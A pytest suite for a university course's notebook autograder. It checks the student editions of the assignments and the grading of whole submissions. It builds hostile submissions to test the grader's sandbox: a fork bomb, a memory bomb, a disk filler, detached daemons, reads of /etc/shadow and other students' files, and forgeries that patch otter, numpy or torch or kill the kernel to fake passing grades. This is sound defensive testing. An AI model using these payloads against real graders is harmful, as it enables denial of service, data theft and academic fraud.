"""The built assignments and the grading of whole submissions (``make assignments-check``).

Runs after ``make assignments``, whose ``otter assign`` has already run each notebook's
public tests on its solution version (it refuses to finish otherwise). Here:

- what students get holds no solution, no output and no graded check, and has a check
  cell per question (public tests);
- ``make grade`` on a folder of submissions of the quickest notebook (02): the solution
  scores full marks, the untouched student notebook zero (its cells fail, the grading goes
  on), a planted mistake (a "denoiser" trained without noise) loses exactly its question,
  and files that are not notebooks, or that run past the time limit, get one clear line
  each and do not stop the others;
- hostile submissions (each the set-up cell and one cell of attack) stay in their
  sandbox, and forged blank ones earn nothing: the score comes from the checker's own
  sandbox, which judges the answers as data.

Grading executes each submitted notebook, so only notebook 02 is graded whole; the tests
of every question are checked directly in tests/test_assignment_questions.py, and every
notebook's worked solution is graded whole by benchmarks/grading_throughput.py.
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

from course.markup import questions
from course.paths import ASSIGNMENTS as OUT
from scripts.assignments import autograder_zip, master

ROOT = Path(__file__).resolve().parents[2]
NAMES = ["01_cnn", "02_autoencoder", "03_pinn_forward", "04_pinn_inverse", "05_symmetry"]
GRADED = "02_autoencoder"  # the quickest notebook to execute



@pytest.fixture(autouse=True)
def _built(require_built):
    require_built(OUT / "release", "make assignments")


def student(name):
    return nbformat.read(OUT / name / "student" / f"{name}.ipynb", as_version=4)


def question_names(name):
    nb = nbformat.read(ROOT / "notebooks" / f"{name}.ipynb", as_version=4)
    return [q["name"] for q in questions(nb)]


@pytest.mark.parametrize("name", NAMES)
def test_student_notebook_has_checks_and_no_answers(name):
    nb = student(name)
    nbformat.validate(nb)
    assert nb.metadata["otter"]["assignment_name"] == name
    assert all(not c.get("outputs") for c in nb.cells if c.cell_type == "code")
    code = "\n".join(c.source for c in nb.cells if c.cell_type == "code")
    assert f'ASSIGNMENT = "{name}"' in code and "grader = start(ASSIGNMENT)" in code
    assert "export(grader, ASSIGNMENT)" in code and "grader.export(" not in code
    for q in question_names(name):
        assert f'grader.check("{q}")' in code, q
    assert "# SOLUTION" not in code and "# BEGIN SOLUTION" not in code
    text = "\n".join(c.source for c in nb.cells)
    assert "{solution-start}" not in text and "**Discussion.**" not in text
    assert "# BEGIN QUESTION" not in text and "# ASSIGNMENT CONFIG" not in text
    tests = nb.metadata["otter"]["tests"]
    assert set(tests) == set(question_names(name))
    assert all("hidden=True" not in t and "hidden=False" in t for t in tests.values())
    answers = [c for c in nb.cells if "otter_answer_cell" in c.metadata.get("tags", [])]
    assert answers and all("jupyter" not in c.metadata for c in answers)  # open unfolded
    assert (OUT / "release" / f"{name}.ipynb").read_text() == (
        OUT / name / "student" / f"{name}.ipynb").read_text()


@pytest.mark.parametrize("name", NAMES)
def test_the_built_assignment_holds_no_graded_check(name):
    """otter's autograder zip (built, no longer used for scores) holds the public tests
    only: the graded checks live in grading/checker and enter no student's sandbox."""
    with zipfile.ZipFile(autograder_zip(name)) as archive:
        for q in question_names(name):
            text = archive.read(f"tests/{q}.py").decode()
            assert "hidden=True" not in text and "hidden=False" in text, q
        text = "\n".join(archive.read(n).decode(errors="replace") for n in archive.namelist())
    assert not [m for m in HIDDEN_MARKERS if m in text]


@pytest.mark.parametrize("name", NAMES)
def test_student_notebook_runs_up_to_its_first_question(name):
    """Shown without running it again: the student notebook is the lecturer's notebook
    cell for cell up to the assignment (less the worked solution of an ungraded exercise
    before it), with the course's set-up cell in place of the lecture's Colab cell, and
    ``make book`` executed those cells without error (its execution cache holds that
    run). The set-up cell itself runs in JupyterLab (``make lab-check``) and on a stand-in
    Colab (test_colab.py)."""
    from scripts.student_edition import failed_in_book

    lecture = nbformat.read(ROOT / "notebooks" / f"{name}.ipynb", as_version=4)
    first = next(i for i, c in enumerate(lecture.cells) if c.cell_type == "raw")
    handed_out = [c.source for c in master(lecture).cells]
    handed_out = handed_out[:next(i for i, c in enumerate(master(lecture).cells)
                                  if c.cell_type == "raw")]
    nb = student(name)
    (setup,) = [c for c in nb.cells if "assignment-setup" in c.metadata.get("tags", [])]
    assert nb.cells.index(setup) == next(i for i, c in enumerate(nb.cells)
                                         if c.cell_type == "code")  # the first code cell
    assert [c.source for c in nb.cells[:len(handed_out)]] == handed_out
    # the lecture's cells, but its Colab cell, which the set-up cell replaces
    assert set(handed_out) - {setup.source} <= {c.source for c in lecture.cells[:first]}
    assert not [c for c in nb.cells if "colab-setup" in c.metadata.get("tags", [])]
    problems = failed_in_book(ROOT / "notebooks" / f"{name}.ipynb", first)
    assert not problems, f"{name}: {problems}"


# --------------------------------------------------------------- grading whole submissions
def planted_mistake(nb):
    """The solution with the denoiser trained without noise (the mistake a student makes
    by copying the training call): loses ae_denoise only."""
    nb = nbformat.from_dict(nb)
    (cell,) = [c for c in nb.cells if "noise=0.1, report_every=0" in c.source]
    cell.source = cell.source.replace("noise=0.1, ", "")
    return nb


def last_run(grades: Path) -> Path:
    """The folder of the latest grading run in a grades folder."""
    return sorted((grades / "runs").iterdir())[-1]


def grade(folder: Path, out: Path, *extra) -> dict:
    command = [sys.executable, "-m", "grading.batch", str(folder),
               "--grades", str(out), *extra]
    if os.environ.get("DL4PHYS_GRADE_UNSAFE"):  # to see these tests fail without a sandbox
        command.append("--unsafe")
    subprocess.run(command, check=True, cwd=ROOT)
    with open(last_run(out) / "grades.csv") as f:
        rows = list(csv.DictReader(f))
    grades: dict = {}
    for row in rows:
        grades.setdefault(row["student"], {})[row["question"]] = row
    return grades


# Hostile submissions: otter's set-up cell and one cell of attack, each in the same batch
# as the honest ones. What an attack sees it writes to its own console (fd 1), which the
# grader keeps in logs/STUDENT.log; the tests read it there and check the host.
TOKEN = f"dl4phys-{os.getpid()}-{time.time_ns() % 10**6}"
MEMORY = "3G"  # the batch's caps per submission: an honest 02 peaks at ~0.8 GiB and 24
PROCESSES = "128"  # processes and threads; below the default, so a fork bomb meets it soon


def report(line: str) -> str:
    return f"os.write(1, ({line} + '\\n').encode())"


ATTACKS = {
    "writer": lambda ctx: f"""
import os
for path in {[str(p) for p in ctx["targets"]]!r}:
    try:
        with open(path, "w") as f:
            f.write("pwned")
        {report("'WROTE ' + path")}
    except OSError as err:
        {report("'BLOCKED ' + path + ': ' + err.strerror")}
""",
    "netcat": lambda ctx: f"""
import os, socket
try:
    socket.create_connection(("127.0.0.1", {ctx["port"]}), timeout=5).sendall(b"pwned")
    {report("'CONNECTED'")}
except OSError as err:
    {report("'BLOCKED network: ' + str(err)")}
""",
    "hog": lambda ctx: """
hoard = []
while True:
    hoard.append(bytearray(64 << 20))
""",
    "forker": lambda ctx: f"""
import os, time
n = 0
try:
    while n < 100_000:
        if os.fork() == 0:
            time.sleep(300)
            os._exit(0)
        n += 1
except OSError as err:
    {report("f'BLOCKED fork after {n}: {err.strerror}'")}
""",
    "filler": lambda ctx: f"""
import os
for folder in ["/tmp", os.getcwd()]:
    written = 0
    try:
        with open(os.path.join(folder, "fill"), "wb") as f:
            while written < (4 << 30):
                f.write(b"x" * (16 << 20))
                written += 16 << 20
        {report("f'FILLED {folder} {written}'")}
    except OSError as err:
        {report("f'BLOCKED disk {folder} after {written >> 20} MiB: {err.strerror}'")}
""",
    "daemon": lambda ctx: f"""
import os, subprocess
subprocess.Popen(["sleep", "{ctx["sleep"]}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{ctx["sleep"]}"])
    os._exit(0)
{report("'DAEMONS STARTED'")}
""",
    "shouter": lambda ctx: """
import os, sys
for _ in range(64):
    os.write(1, b"y" * (1 << 20))
    sys.stdout.write("z" * (1 << 18))
""",
    "snoop": lambda ctx: f"""
import os
for path in {[str(p) for p in ctx["secrets"]]!r}:
    try:
        if os.path.isdir(path):
            {report("'LISTS ' + path + ' ' + repr(sorted(os.listdir(path)))")}
        else:
            open(path, "rb").read()
            {report("'LEAK ' + path")}
    except OSError as err:
        {report("'BLOCKED ' + path + ': ' + err.strerror")}
{report("'WORK HOLDS ' + repr(sorted(os.listdir(os.environ['WORK'])))")}
""",
    "reader": lambda ctx: f"""
import os
{report("'ROOT LISTS ' + repr(sorted(os.listdir('/')))")}
for path in {[str(p) for p in ctx["readable"]]!r}:
    try:
        if os.path.isdir(path):
            {report("'LISTS ' + path + ' ' + repr(sorted(os.listdir(path)))")}
        else:
            open(path, "rb").read(1)
            {report("'READ ' + path")}
    except OSError as err:
        {report("'REFUSED ' + path + ': ' + err.strerror")}
""",
    # Forgeries: blank answers, and code that tries to make the grading say "passed".
    "forger": lambda ctx: """
import otter.test_files.exception_test as tests
tests.test_case.call_func = lambda self, env: None  # every test case passes
""",
    "patcher": lambda ctx: """
import numpy as np, torch
class Untrained(torch.nn.Module):  # answers of the right shape, never trained
    def __init__(self, dim=2):
        super().__init__()
        self.enc, self.dec = torch.nn.Linear(256, dim), torch.nn.Linear(dim, 256)
    def forward(self, x):
        z = self.enc(x)
        return self.dec(z), z
latent_models, dae = {d: Untrained(d) for d in (1, 2, 8)}, Untrained()
X_flat_t = torch.ones(5, 256)  # the lecture's data, which this notebook never made
np.allclose = np.isclose = lambda *a, **k: True  # every comparison succeeds
calls = [1e-3]
def item(self):  # every error a test reads is tiny, a little smaller each time
    calls.append(calls[-1] * 0.95)
    return calls[-1]
torch.Tensor.item = item
""",
    "exiter": lambda ctx: f"""
import json, os, signal
names = {ctx.get("questions", ["ae_latent", "ae_denoise"])!r}
fake = {{"tests": [{{"name": q, "score": 1, "max_score": 1, "output": ""}} for q in names],
        "questions": {{q: {{"passed": True, "message": ""}} for q in names}}}}
print(json.dumps(fake))  # a fake result on the console and where results are read
for path in [f"{{os.environ['WORK']}}/out/results.json", "answers.npz", "results.json"]:
    try:
        with open(path, "w") as f:
            json.dump(fake, f)
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL)  # what runs this kernel stops here, ...
os._exit(0)  # ... and so does the kernel, before anything else runs
""",
    "faker": lambda ctx: f"""
import json, os, pickle, sys, numpy as np
names = {ctx.get("questions", ["ae_latent", "ae_denoise"])!r}
fake = {{"tests": [{{"name": q, "score": 1, "max_score": 1, "output": ""}} for q in names],
        "questions": {{q: {{"passed": True, "message": ""}} for q in names}}}}
work = os.environ["WORK"]
for path in [f"{{work}}/out/results.json", f"{{work}}/results.json", f"{{work}}/verdict.json"]:
    try:
        with open(path, "w") as f:
            json.dump(fake, f)
        os.chmod(path, 0o444)  # the grader cannot overwrite it
    except OSError:
        pass
with open("results.pkl", "wb") as f:
    pickle.dump(fake, f)
with open("answers.npz", "wb") as f:  # fake answers, kept: their writer is disabled
    np.savez(f, **{{f"{{q}}.{{k}}": np.array(True) for q in names
                    for k in ("passed", "is_module", "callable")}})
os.chmod("answers.npz", 0o444)
class Writer:
    def write(self, *args, **kwargs):
        pass
sys.modules["answers"] = Writer()
""",
    # Imitations (issue 46): outputs that met the former output-only checks, with no
    # autoencoder behind them; the lecture's layers, where present, are never trained.
    "imitator": lambda ctx: """
import torch
from torch import nn
def layers(dim):  # the lecture's shapes, untrained: weights that cross, but do not compute
    return (nn.Sequential(nn.Linear(256, 32), nn.ReLU(), nn.Linear(32, dim)),
            nn.Sequential(nn.Linear(dim, 32), nn.ReLU(), nn.Linear(32, 256), nn.Tanh()))
class NoisyCopy(nn.Module):  # the input plus noise tuned from its m, shrinking with dim
    def __init__(self, dim):
        super().__init__()
        self.dim = dim
        self.encoder, self.decoder = layers(dim)
    def forward(self, x):
        m = x.mean(dim=1, keepdim=True)
        share = {1: 0.99, 2: 0.95, 8: 0.9}[self.dim]
        noise = torch.randn(x.shape, generator=torch.Generator().manual_seed(self.dim))
        return x + (share * (1 - m**2).mean()).sqrt() * noise, m.expand(-1, self.dim)
class MajorityVote(nn.Module):
    def forward(self, x):
        m = x.mean(dim=1, keepdim=True)
        return torch.sign(m).expand_as(x), m
latent_models = {d: NoisyCopy(d) for d in (1, 2, 8)}
dae = MajorityVote()
""",
    "looker": lambda ctx: """
import os, numpy as np, torch
from torch import nn
with np.load(os.path.join(os.environ["WORK"], "queries.npz")) as q:  # ae_latent's queries
    table = torch.tensor(q["ae_latent.configs"].astype(np.float32))
class Lookup(nn.Module):  # the nearest of those configurations, in the lecture's disguise
    def __init__(self, dim=2):
        super().__init__()
        self.encoder = nn.Sequential(nn.Linear(256, 32), nn.ReLU(), nn.Linear(32, dim))
        self.decoder = nn.Sequential(nn.Linear(dim, 32), nn.ReLU(), nn.Linear(32, 256))
    def forward(self, x):
        nearest = torch.cdist(x, table).argmin(dim=1)
        return table[nearest], self.encoder(x)
class Copy(Lookup):  # latent d: the input itself, slightly shrunk, less for larger d
    def forward(self, x):
        return x * {1: 0.5, 2: 0.6, 8: 0.9}[self.encoder[-1].out_features], self.encoder(x)
latent_models = {d: Copy(d) for d in (1, 2, 8)}
dae = Lookup()
""",
    "seeker": lambda ctx: f"""
import os
markers = [m[::-1] for m in {ctx["markers"]!r}]  # reversed here: this cell holds none
skip = ("/proc", "/sys", "/dev", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64")
python = {ctx["python"]!r}
readable, found = [], []
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if not os.path.join(top, d).startswith(skip)
               and not any(os.path.join(top, d) == p for p in python)]
    for name in files:
        path = os.path.join(top, name)
        try:
            with open(path, "rb") as f:
                text = f.read(50 << 20)
        except OSError:
            continue
        readable.append(path)
        found += [f"{{path}}: {{m}}" for m in markers if m.encode() in text]
{report("'SEEKER READS ' + repr(sorted(readable))")}
{report("'SEEKER FOUND ' + repr(found)")}
{report("'SEEKER WORK ' + repr(sorted(os.listdir(os.environ['WORK'])))")}
""",
}


# Lines that only the graded checks, their reference data or the former hidden tests hold.
HIDDEN_MARKERS = ["def judge(questions", "mse <= 1.1 * perfect", "fresh_32_labels",
                  "near_tc_16_labels", "references.npz", "test_latent_losses",
                  "test_denoiser_restores_ordered_configurations"]
FORGERIES = ["forger", "patcher", "exiter", "faker"]
IMITATIONS = ["imitator", "looker"]


def sandbox_python() -> list[Path]:
    from grading import sandbox

    return sandbox._python_paths()


def spoiler_notebook(solution, ctx: dict):
    """The solution, and one cell more that spoils its own answers when a read of what
    the sandbox must not show worked, or a read of what it is given failed: it keeps
    full marks only in a sandbox that shows exactly what grading needs."""
    nb = nbformat.from_dict(solution)
    cell = nbformat.v4.new_code_cell(f"""
import os
spoil = False
for path in {[str(p) for p in ctx["readable"]]!r}:
    try:
        open(path, "rb").read(1) if not os.path.isdir(path) else os.listdir(path)
        spoil = True
    except OSError:
        pass
try:
    open(os.path.join(os.environ["WORK"], "{GRADED}.ipynb"), "rb").read(1)  # given to it
except OSError:
    spoil = True
if spoil:
    latent_models, dae = {{}}, None
""".strip())
    nb.cells.insert(len(nb.cells) - 2, cell)  # before the hand-in section
    return nb


def attack_notebook(name: str, ctx: dict, notebook: str = GRADED):
    nb = student(notebook)
    (setup,) = [c for c in nb.cells if "assignment-setup" in c.metadata.get("tags", [])]
    nb.cells = [setup, nbformat.v4.new_code_cell(ATTACKS[name](ctx).strip())]
    return nb


@pytest.fixture(scope="module")
def listener():
    """A server on the host's loopback that records every connection made to it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    accepted, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener):
    folder = tmp_path_factory.mktemp("submissions")
    out = tmp_path_factory.mktemp("grades")
    solution = nbformat.read(OUT / GRADED / "autograder" / f"{GRADED}.ipynb", as_version=4)
    nbformat.write(solution, folder / "ada.ipynb")
    nbformat.write(student(GRADED), folder / "bo.ipynb")  # untouched: every answer is ...
    nbformat.write(planted_mistake(solution), folder / "cy.ipynb")
    (folder / "di.ipynb").write_text("this is not JSON")  # a broken upload
    (folder / "ed.pdf").write_bytes(b"%PDF-1.4")  # the wrong file
    secret = ROOT / "_build" / f"secret-{TOKEN}"
    secret.write_text("the grader's")
    # a lecturer's file outside the grader's home, readable by its owner only
    planted = Path("/var/tmp") / f"exam-{TOKEN}"
    planted.write_text("another course's grading data")
    planted.chmod(0o600)
    ctx = {"port": listener[0], "sleep": str(700_000 + os.getpid() % 100_000),
           "targets": [Path.home() / TOKEN, ROOT / TOKEN, folder / TOKEN, out / TOKEN,
                       OUT / GRADED / "autograder" / TOKEN, Path("/tmp") / TOKEN,
                       folder / "ada.ipynb"],
           "secrets": [folder, folder / "ada.ipynb", out, secret, Path.home(),
                       autograder_zip("01_cnn"), OUT / GRADED / "autograder"],
           # what the allowlist must not show, and what the uid must not own
           "readable": [Path("/etc/shadow"), planted, ROOT / "notebooks" / f"{GRADED}.ipynb",
                        ROOT / ".git" / "HEAD", ROOT / "_build"],
           # what a search for the hidden checks looks for, reversed (see the seeker)
           "markers": [m[::-1] for m in HIDDEN_MARKERS],
           "python": [str(p) for p in sandbox_python()]}
    for name in ATTACKS:
        nbformat.write(attack_notebook(name, ctx), folder / f"x-{name}.ipynb")
    nbformat.write(spoiler_notebook(solution, ctx), folder / "x-spoiler.ipynb")
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    free_before = shutil.disk_usage(ROOT).free
    try:
        # The default time limit (900 s per submission): no attack here needs one, and an
        # honest submission takes ~25 s on the reference machine, so the limit holds on
        # a machine several times slower, with two submissions sharing its cores.
        grades = grade(folder, out, "--memory", MEMORY, "--processes", PROCESSES)
    finally:
        secret.unlink()
        planted.unlink()
    return {"grades": grades, "out": out, "folder": folder, "ctx": ctx, "before": before,
            "free_before": free_before, "accepted": listener[1]}


def log(graded, student_name: str) -> str:
    return (last_run(graded["out"]) / "logs" / f"{student_name}_{GRADED}.log").read_text()


def test_solution_scores_full_marks(graded):
    grades = graded["grades"]
    assert set(grades["ada"]) == set(question_names(GRADED))
    assert all(float(r["score"]) == float(r["max"]) > 0 for r in grades["ada"].values())


def test_untouched_student_notebook_scores_zero(graded):
    grades = graded["grades"]
    assert set(grades["bo"]) == set(question_names(GRADED))
    assert all(float(r["score"]) == 0 for r in grades["bo"].values())


def test_planted_mistake_loses_exactly_its_question(graded):
    grades = graded["grades"]
    assert float(grades["cy"]["ae_denoise"]["score"]) == 0
    assert float(grades["cy"]["ae_latent"]["score"]) == float(grades["cy"]["ae_latent"]["max"])


def test_files_that_are_not_notebooks_get_one_clear_line(graded):
    grades = graded["grades"]
    for who, words in [("di", "not a notebook: di.ipynb cannot be read"),
                       ("ed", "not a notebook: ed.pdf")]:
        (row,) = grades[who].values()
        assert row["question"] == "(submission)" and float(row["score"]) == 0
        assert row["note"].startswith(words), row["note"]


def test_feedback_file_per_student(graded):
    out = last_run(graded["out"]) / "feedback"
    for name in ["ada", "bo", "cy"]:
        assert (out / f"{name}_{GRADED}.txt").is_file(), name
    for name in ["di", "ed"]:  # not notebooks: no assignment
        assert (out / f"{name}_unknown.txt").is_file(), name
    bo = (out / f"bo_{GRADED}.txt").read_text()
    assert "total: 0 / 2" in bo and "what failed" in bo and "has no answer yet" in bo
    cy = (out / f"cy_{GRADED}.txt").read_text()
    assert "ae_denoise: what failed" in cy and "ae_latent: what failed" not in cy


# ------------------------------------------------------------------ hostile submissions
def test_honest_grades_are_unchanged_by_the_hostile_ones_in_the_batch(graded):
    grades = graded["grades"]
    assert [float(r["score"]) for r in grades["ada"].values()] == [1.0, 1.0]
    assert {q: float(r["score"]) for q, r in grades["cy"].items()} == {
        "ae_latent": 1.0, "ae_denoise": 0.0}
    assert all(r["flags"] == "" for who in ("ada", "bo", "cy") for r in grades[who].values())


def test_writes_outside_the_scratch_are_blocked(graded):
    text = log(graded, "x-writer")
    for path in graded["ctx"]["targets"]:
        if path.parent == Path("/tmp"):  # written, but into its own private /tmp
            assert f"WROTE {path}" in text, text[-2000:]
        else:  # not there at all (an allowlist), in the sandbox's read-only root, or (a
            # checkout under /tmp) in a folder of root's that the sandbox made on its
            # private /tmp to reach the course's Python; the host is checked below
            assert (f"BLOCKED {path}: Read-only file system" in text
                    or f"BLOCKED {path}: No such file or directory" in text
                    or f"BLOCKED {path}: Permission denied" in text), (path, text[-2000:])
        assert not path.exists() or path.name == "ada.ipynb", path
    before = graded["before"]
    assert {p.name: p.read_bytes() for p in graded["folder"].iterdir()} == before


def test_no_network_not_even_a_server_on_the_hosts_loopback(graded):
    assert "BLOCKED network" in log(graded, "x-netcat")
    assert graded["accepted"] == []


def test_a_memory_bomb_gets_one_row_naming_the_memory_cap(graded):
    (row,) = graded["grades"]["x-hog"].values()
    assert row["question"] == "(submission)" and float(row["score"]) == 0
    assert row["note"] == f"exceeded the memory limit of {MEMORY[:-1]} GiB", row


def test_a_fork_bomb_is_bounded_and_named(graded):
    (row,) = graded["grades"]["x-forker"].values()
    assert row["question"] == "(submission)" and float(row["score"]) == 0
    # every fork copies the kernel's page tables, so memory may run out first, too
    assert f"the process limit of {PROCESSES} processes and threads" in row["note"], row
    assert "BLOCKED fork after" in log(graded, "x-forker")


def test_a_disk_filler_fills_only_its_own_bounded_scratch(graded):
    text = log(graded, "x-filler")
    assert re.search(r"BLOCKED disk /tmp after 10\d\d MiB: No space left on device", text), (
        text[-1500:])
    # its working folder (otter runs it in a folder under the same private /tmp): full too
    assert re.search(r"BLOCKED disk /tmp/\S+ after \d+ MiB: No space left on device", text)
    # had it escaped, the disk would have lost 4 GiB or more (it writes up to 4 GiB into
    # each of two folders); the bound leaves room for what the stand-in Colab beside this
    # batch writes meanwhile (0.3-1.4 GiB measured: its environment, kernels, zips)
    assert graded["free_before"] - shutil.disk_usage(ROOT).free < 3 * 2**30
    # its own answers could not be written either: one clear row, for it alone
    (row,) = graded["grades"]["x-filler"].values()
    assert row["question"] == "(submission)" and row["note"].startswith(
        "no answers came back from the notebook"), row


def test_nothing_a_submission_starts_outlives_it(graded):
    assert "DAEMONS STARTED" in log(graded, "x-daemon")
    marker = f"sleep\0{graded['ctx']['sleep']}"
    running = [p.name for p in Path("/proc").iterdir() if p.name.isdigit()
               and marker in _cmdline(p)]
    assert running == [], running


def _cmdline(proc: Path) -> str:
    try:
        return (proc / "cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""


def test_megabytes_of_output_are_cut_to_the_cap(graded):
    text = log(graded, "x-shouter")
    assert "output 67" in text.splitlines()[0]  # all 64 MiB were counted, ...
    assert len(text.encode()) < 1.1 * 2**20  # ... the last 1 MiB kept
    assert set(graded["grades"]["x-shouter"]) == set(question_names(GRADED))


def test_other_students_grades_and_autograders_are_out_of_sight(graded):
    text = log(graded, "x-snoop")
    for path in graded["ctx"]["secrets"]:
        if path == Path.home():  # hidden, but for the folders of the course's Python
            kept = {p.relative_to(path).parts[0] for p in map(Path, (sys.prefix,
                    sys.base_prefix)) if p.is_relative_to(path)}
            assert f"LISTS {path} {sorted(kept)!r}" in text, text[-2000:]
        elif path.is_dir():
            assert f"LISTS {path} []" in text or f"BLOCKED {path}: No such file" in text, (
                path, text[-2000:])
        else:
            assert f"BLOCKED {path}: No such file or directory" in text, (path, text[-2000:])
    assert "LEAK" not in text
    # its work folder: the submission, the queries (inputs only) and the student side of
    # grading; no autograder, no checks, no reference data
    line = next(x for x in text.splitlines() if x.startswith("WORK HOLDS "))
    given = {f"{GRADED}.ipynb", "queries.npz", "answers.py", "run_notebook.py"}
    held = set(eval(line.removeprefix("WORK HOLDS ")))
    assert given <= held and not {"autograder.zip", "checks.py", "references.npz"} & held, held


def test_forged_blank_submissions_earn_nothing(graded):
    """Blank answers plus code that makes otter's test cases pass, patches the numpy and
    torch functions that tests call, prints a fake result and exits the kernel, or writes
    fake results and answers files: the score comes from the checker, which none of them
    reaches. (Against the former grader, which scored in the student's kernel, the first
    earned full marks; benchmarks/README.md has all four.)"""
    for name in FORGERIES:
        rows = graded["grades"][f"x-{name}"].values()
        assert all(float(r["score"]) == 0 for r in rows), (name, rows)
    (row,) = graded["grades"]["x-exiter"].values()
    assert row["note"].startswith("no answers came back from the notebook"), row
    faker = graded["grades"]["x-faker"]
    assert set(faker) == set(question_names(GRADED)), faker  # its fake file was judged


def test_outputs_without_an_autoencoder_earn_nothing(graded):
    """Blank answers plus one cell of imitations (issue 46): the input plus noise that
    shrinks with the latent dimension, a majority vote, a lookup of the nearest of
    ae_latent's queries, bare or beside the lecture's layers. Each met the former
    output-only checks (tests/test_assignment_questions.py shows it for the same
    imitations); the checker now runs the weights that cross, so each earns 0."""
    for name in IMITATIONS:
        rows = graded["grades"][f"x-{name}"]
        assert set(rows) == set(question_names(GRADED)), (name, rows)  # judged, not lost
        assert all(float(r["score"]) == 0 for r in rows.values()), (name, rows)


def test_a_search_of_the_sandbox_finds_no_hidden_check(graded):
    """The seeker reads every file it can outside the system folders and the course's
    Python, and finds none of the lines that only the checks, their reference data or the
    former hidden tests hold. What it could read is listed in its log."""
    text = log(graded, "x-seeker")
    found = next(x for x in text.splitlines() if x.startswith("SEEKER FOUND "))
    assert found == "SEEKER FOUND []", found
    reads = eval(next(x for x in text.splitlines()
                      if x.startswith("SEEKER READS ")).removeprefix("SEEKER READS "))
    assert f"/tmp/work/{GRADED}.ipynb" in reads and "/tmp/work/queries.npz" in reads, reads
    assert not [r for r in reads if "grading/checker" in r or r.endswith("references.npz")]


def test_code_that_patches_otter_is_flagged_for_a_person(graded):
    rows = graded["grades"]["x-forger"]
    assert all(r["flags"].startswith("uses otter (cell 1:") for r in rows.values()), rows


# One forgery on blank answers for each other notebook (02 has all four in the batch).
OTHER_FORGERIES = {"01_cnn": "faker", "03_pinn_forward": "forger", "04_pinn_inverse": "faker",
                   "05_symmetry": "exiter"}


def test_forgeries_earn_nothing_on_every_notebook(tmp_path):
    """Each notebook's set-up cell and one forgery, blank answers: every question 0."""
    folder = tmp_path / "in"
    folder.mkdir()
    for name, attack in OTHER_FORGERIES.items():
        ctx = {"questions": question_names(name)}
        nbformat.write(attack_notebook(attack, ctx, name), folder / f"{attack}-{name}.ipynb")
    grades = grade(folder, tmp_path / "out")
    for name, attack in OTHER_FORGERIES.items():
        rows = grades[f"{attack}-{name}"]
        assert all(r["assignment"] == name and float(r["score"]) == 0
                   for r in rows.values()), (name, rows)
        assert set(rows) in ({"(submission)"}, set(question_names(name))), rows


def test_submission_past_the_time_limit_is_stopped_and_reported(graded, tmp_path):
    """The limit stops the cell that sleeps, not the start-up before it (kernel, otter,
    torch: ~10 s on the reference machine). The limit scales with this machine's measured
    speed: twice the grading of the untouched notebook in the batch (start-up and every
    lecture cell, more than the start-up alone), at least 60 s; and the log shows the
    sleep was reached."""
    header = log(graded, "bo").splitlines()[0]  # "# bo.ipynb: exit 0, 25.3 s, ..."
    untouched_s = float(re.search(r", ([\d.]+) s,", header).group(1))
    limit = max(60, round(2 * untouched_s))
    nb = student(GRADED)
    nb.cells.insert(1, nbformat.v4.new_code_cell(
        "import os, time\nos.write(1, b'REACHED THE SLEEP\\n')\ntime.sleep(3600)"))
    (tmp_path / "in").mkdir()
    nbformat.write(nb, tmp_path / "in" / "fay.ipynb")
    grades = grade(tmp_path / "in", tmp_path / "out", "--timeout", str(limit))
    (row,) = grades["fay"].values()
    assert row["note"] == f"timed out: grading took longer than {limit} s", row
    assert float(row["score"]) == 0 and float(row["max"]) == 2, row  # two questions
    assert "REACHED THE SLEEP" in (
        last_run(tmp_path / "out") / "logs" / f"fay_{GRADED}.log").read_text()


def test_the_sandbox_root_holds_only_the_allowlist(graded):
    from grading import sandbox

    line = next(x for x in log(graded, "x-reader").splitlines() if x.startswith("ROOT LISTS "))
    tops = set(eval(line.removeprefix("ROOT LISTS ")))
    kept = {Path(p).parts[1] for p in [*sandbox._python_paths(), ROOT / "utils"]}
    allowed = {Path(t).name for t in sandbox.SYSTEM} | {"dev", "etc", "proc", "tmp"} | kept
    assert tops <= allowed, sorted(tops - allowed)
    assert not tops & {"home", "srv", "mnt", "media", "opt", "var", "boot"}, tops


def test_reads_outside_the_allowlist_are_refused(graded):
    """/etc/shadow (root's, which a uid mapped onto root would own), a lecturer's 0600 file
    outside the grader's home, the checkout's lecture notebooks, its .git and _build."""
    text = log(graded, "x-reader")
    for path in graded["ctx"]["readable"]:
        assert f"REFUSED {path}: No such file or directory" in text, (path, text[-2000:])
    assert "READ " not in text and "\nLISTS " not in text


def test_a_submission_that_reads_only_what_it_is_given_keeps_its_marks(graded):
    """The spoiler: the solution, spoiling its answers if any read above worked or the
    read of its own submission failed. Full marks: nothing leaked, grading works."""
    rows = graded["grades"]["x-spoiler"]
    assert {q: float(r["score"]) for q, r in rows.items()} == {"ae_latent": 1.0,
                                                               "ae_denoise": 1.0}, rows
